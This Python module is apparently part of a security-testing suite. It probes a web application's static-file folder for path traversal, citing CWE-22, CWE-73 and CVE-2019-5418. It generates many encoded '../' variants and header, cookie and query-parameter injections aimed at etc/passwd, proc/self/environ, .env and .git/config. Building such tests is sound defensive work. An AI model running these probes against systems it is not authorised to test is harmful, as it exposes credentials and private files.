"""Ask for files outside of a folder that is served. Source: CWE-22; OWASP, Path Traversal."""

from __future__ import annotations

import html
import posixpath
import re
import secrets
import string
from collections.abc import Iterator
from urllib.parse import parse_qsl, quote, urlsplit

from gonogo.contract.base import Request
from gonogo.contract.hostile import StaticFiles
from gonogo.instruments.urls import below, target_of
from gonogo.suites.security.experiments.asking import ask
from gonogo.suites.security.observations.hosts import Climbed, Heard, StaticFolder
from gonogo.targets.base import Target

_ALIKE = ("-private", "_private", "-internal", "-secret", "-old", ".bak", "-backup", "2", "s", "~", "_files")
"""What a neighbour's name has behind the folder's own."""
_USUAL = (".env", ".git/config", "secret.txt", "config.yaml", "settings.py", "main.py", "app.py", "app.js")
_OF_PROJECTS = (
    *("package.json", "server.js", "manage.py", "requirements.txt", "wsgi.py", "go.mod", "composer.json"),
    *("pyproject.toml", "Gemfile", "appsettings.json"),
)
"""What lies at the root of a project, beside what it serves; who climbs further is seen by other files."""
_USUAL_ROOT = ("etc/passwd", "etc/hostname", "proc/self/environ")
_UP = 8
_MOST_LINKS = 3
_MOST_ABOVE = 2
_LINK = re.compile(r"""(?:href|src)=["'](/[^/"'][^"']*\?[^"']+)["']""")
_IS_FILE = re.compile(r"\.[A-Za-z]\w{1,4}$")
_WAYS = {
    "dots": ("../", "/"),
    "encoded dots": ("%2e%2e/", "/"),
    "half encoded dots": (".%2e/", "/"),
    "encoded slashes": ("..%2f", "%2f"),
    "all encoded": ("%2e%2e%2f", "%2f"),
    "encoded twice": ("%252e%252e%252f", "%252f"),
    "backslashes": ("..\\", "\\"),
    "encoded backslashes": ("..%5c", "%5c"),
    "semicolons": ("..;/", "/"),
    "doubled dots": ("....//", "/"),
}
"""One step up, and a slash further on, in each spelling."""
_ONE_UP = ("dots", "encoded slashes")
"""The spellings in which a neighbour of a folder above is asked for."""
_BY_NAME = ("dots", "encoded slashes", "encoded twice")
"""The spellings that are tried under a name with a mark as well."""
_CHOSEN = ("dots", "doubled dots")
"""The spellings in which a variant is named: in a header nobody decodes."""
_CHOOSERS = ("lang", "language", "locale", "theme")
"""The cookies by which a variant of a file is chosen; they go together, as do the parameters of a query."""
_MOST_BESIDE = 2


def leave_the_folder(target: Target, static: StaticFiles) -> StaticFolder:
    """Ask for the file, for one that is not there, and for what is not in the folder in every spelling."""
    pattern, static = static.file, static.model_copy(update={"file": _named(target, static)})
    folder = posixpath.dirname(static.file)
    nothing = f"{folder}/{secrets.token_hex(6)}{posixpath.splitext(static.file)[1]}"
    missing = [
        _get(target, "a file that is not there", path) for path in (nothing, f"/{secrets.token_hex(6)}")
    ]
    plainly: dict[str, Heard] = {}
    climbed = []
    near = [*_beside(folder, _OF_PROJECTS), *_above(static.file, folder)]
    for how, path, place in (*_outside(static, folder), *near, *_marked(pattern, static.file, folder)):
        if place not in plainly:
            plainly[place] = _get(target, "plainly", quote(place))
        climbed.append(Climbed(_get(target, how, path), plainly[place]))
    for how, path, nothing in _by_query(target, static):
        climbed.append(Climbed(_get(target, how, path), _get(target, "one that is not there", nothing)))
    climbed += _by_variant(target, static, folder)
    control = _get(target, "a file of the folder", static.file)
    return StaticFolder((control,), tuple(missing), tuple(climbed))


def _named(target: Target, static: StaticFiles) -> str:
    """Return the file's path, as the page that links to it has it where it changes."""
    pattern = re.escape(static.file).replace(r"\*", r"[\w.-]+")
    page = _get(target, "a page that links to it", static.page).body if "*" in static.file else ""
    found = re.search(pattern, page)
    return found[0] if found else static.file


def _by_query(target: Target, static: StaticFiles) -> Iterator[tuple[str, str, str]]:
    """Give how, the path, and one for a file that is not there, where a link on the page names a file.

    Source: CWE-73, external control of a file's name.
    """
    page = _get(target, "a page that links to it", static.page).body
    root = urlsplit(target.entry).path.rstrip("/")
    for link in list(dict.fromkeys(_LINK.findall(page)))[:_MOST_LINKS]:
        address = urlsplit(html.unescape(link))
        for name, value in parse_qsl(address.query):
            if not _IS_FILE.search(value):
                continue

            def named(file: str, path: str = address.path.removeprefix(root), name: str = name) -> str:
                return f"{path}?{name}={quote(file)}"

            nothing = named(f"{secrets.token_hex(6)}{posixpath.splitext(value)[1]}")
            for file in (
                *("../" * _UP + path for path in _USUAL_ROOT),
                *(f"/{path}" for path in _USUAL_ROOT),
            ):
                yield f"by {name} of a link", named(file), nothing


def _outside(static: StaticFiles, folder: str) -> Iterator[tuple[str, str, str]]:
    """Give how, the path, and where that is when somebody resolves it first."""
    base, name = posixpath.basename(folder), posixpath.basename(static.file)
    near = [f"../{base}{end}/{name}" for end in _ALIKE] if base else []
    near += [*static.beside, *(f"../{usual}" for usual in _USUAL)]
    far = ["../" * _UP + path for path in _USUAL_ROOT]
    for there in (*near, *far):
        rest = there.replace("../", "")
        steps, place = there.count("../"), posixpath.normpath(posixpath.join(folder or "/", there))
        if not steps:
            yield "by its name", f"{folder}/{rest}", f"/{rest}"
        for how, (up, slash) in _WAYS.items() if steps else ():
            yield how, f"{folder}/{up * steps}{rest.replace('/', slash)}", place
        if steps == 1:
            yield "no slash before the dots", f"{folder}../{rest}", place
    for path in _USUAL_ROOT:
        yield "an absolute path", f"{folder}//{path}", f"/{path}"
        yield "an encoded absolute path", f"{folder}/%2f{path}", f"/{path}"


def _above(file: str, folder: str) -> Iterator[tuple[str, str, str]]:
    """Give how, the path, and where that is, out of the highest folders above: which is served is not said.

    A file of `/static/css` mostly is one of `/static`, whose neighbours are no neighbours of `css`.
    """
    parts = folder.split("/")
    for above in ["/".join(parts[:end]) for end in range(2, len(parts))][:_MOST_ABOVE]:
        rest = file.removeprefix(f"{above}/")
        for there in (f"{posixpath.basename(above)}{end}/{rest}" for end in _ALIKE):
            for how in _ONE_UP:
                up, slash = _WAYS[how]
                path = f"{above}/{up}{there.replace('/', slash)}"
                yield how, path, posixpath.normpath(f"{above}/../{there}")
        yield from _beside(above, (*_USUAL, *_OF_PROJECTS))


def _beside(folder: str, names: tuple[str, ...]) -> Iterator[tuple[str, str, str]]:
    """Give the same for what lies beside a folder that is joined to the path as text, without a slash."""
    for name in names if folder else ():
        yield "no slash before the dots", f"{folder}../{name}", posixpath.normpath(f"{folder}/../{name}")


def _marked(pattern: str, file: str, folder: str) -> Iterator[tuple[str, str, str]]:
    """Give the same for names with a mark in them, as a build gives its files: once out, they may climb."""
    before, _, after = posixpath.basename(pattern).partition("*")
    name = posixpath.basename(file)
    mark = before[-1:].strip(string.ascii_letters) + name[len(before) : len(name) - len(after)]
    for there in (
        (*(f"../{usual}" for usual in _USUAL), "../" * _UP + _USUAL_ROOT[0]) if "*" in pattern else ()
    ):
        steps, (stem, end) = there.count("../"), posixpath.splitext(there.replace("../", ""))
        place = posixpath.normpath(posixpath.join(folder or "/", there))
        for how, (up, slash) in _WAYS.items():
            if how in _BY_NAME:
                path = f"{stem}{mark}{end}".replace("/", slash)
                yield f"{how} under a name with a mark", f"{folder}/{up * steps}{path}", place


def _by_variant(target: Target, static: StaticFiles, folder: str) -> Iterator[Climbed]:
    """Choose a variant that leads out, wherever one is chosen, and in the same place one that is not there.

    Source: CVE-2019-5418 (Rails: a file by the Accept header).
    """
    for path, variant in _variants(static, folder):
        nothing = posixpath.join(posixpath.dirname(variant), secrets.token_hex(6))
        asked = [
            [_get(target, how, path + query, *lines, named=named) for how, query, *lines in _choices(named)]
            for named in (variant, nothing)
        ]
        yield from map(Climbed, *asked)


def _variants(static: StaticFiles, folder: str) -> Iterator[tuple[str, str]]:
    """Give a path and a variant: the folder in which the name is looked up, or the whole file."""
    above, name = posixpath.split(_USUAL_ROOT[0])
    for up in (*(_WAYS[how][0] * _UP for how in _CHOSEN), "/"):
        yield f"{folder}/{name}", f"{up}{above}"
        yield static.file, f"{up}{_USUAL_ROOT[0]}"
    for there in static.beside[:_MOST_BESIDE]:
        above, name = posixpath.split(there)
        if above:
            yield f"{folder}/{name}", above


def _choices(variant: str) -> Iterator[tuple[str, ...]]:
    """Give how it is chosen, the query, and lines of the head."""
    for header in ("Accept-Language", "Accept"):
        yield f"by {header} {variant}", "", f"{header}: {variant}"
    yield f"by a cookie {variant}", "", f"Cookie: {'; '.join(f'{name}={variant}' for name in _CHOOSERS)}"
    yield "by a query", f"?{'&'.join(f'{name}={quote(variant)}' for name in (*_CHOOSERS, 'v'))}"


def _get(target: Target, how: str, path: str, *lines: str, named: str = "") -> Heard:
    whole = target_of(below(target.entry, "/")).rstrip("/") + path
    return ask(target, Request(name="file", path="/"), how, *lines, path=whole, foreign=named)
